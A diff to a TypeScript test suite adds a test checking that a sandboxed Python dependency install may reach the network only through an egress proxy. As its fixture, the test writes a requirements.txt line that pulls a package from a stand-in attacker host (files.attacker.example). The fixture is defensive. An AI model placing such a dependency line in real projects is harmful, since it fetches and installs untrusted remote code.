@@ -5,6 +5,7 @@ import path from 'node:path';
 import { pythonInstall } from '../../../src/gates/python/install.js';
 import type { GateContext } from '../../../src/gates/types.js';
 import type { Sandbox, SandboxCommand } from '../../../src/sandbox/types.js';
+import { createSandbox } from '../../../src/sandbox/index.js';
 import { pipArgv, preparePythonEnvironment, readRequirements } from '../../../src/workspace/python-install.js';
 import { fixtureWorkspace } from './fixture.js';
 
@@ -129,6 +130,21 @@ describe('Python environment', () => {
       expect(outcome.ok).toBe(false);
       expect(outcome.output).toContain('Installing the Python dependencies failed');
       expect(outcome.output).toContain('quality-gates-no-such-package');
+    } finally {
+      await ws.cleanup();
+    }
+  });
+
+  it("goes out through the egress proxy only: the operator's index by name, any other host refused and named", async () => {
+    const ws = await fixtureWorkspace('py-pass');
+    try {
+      // .invalid never resolves (RFC 6761): the proxy allows the operator's index by name and then finds no address.
+      ws.ctx.sandbox = await createSandbox({ env: { ...process.env, PIP_INDEX_URL: 'https://pypi.invalid/simple' } });
+      await writeFile(path.join(ws.ctx.dir, 'requirements.txt'), 'attrs\nevil @ https://files.attacker.example/evil-1.0.tar.gz\n');
+      const outcome = await pythonInstall.run(ws.ctx);
+      expect(outcome.ok).toBe(false);
+      expect(outcome.output).toMatch(/the Python install tried to reach (pypi\.invalid:443: refused \(the name does not resolve|files\.attacker\.example:443: refused \(not a package registry\))/);
+      expect(outcome.output).toContain('QG_INSTALL_ALLOW_HOSTS');
     } finally {
       await ws.cleanup();
     }
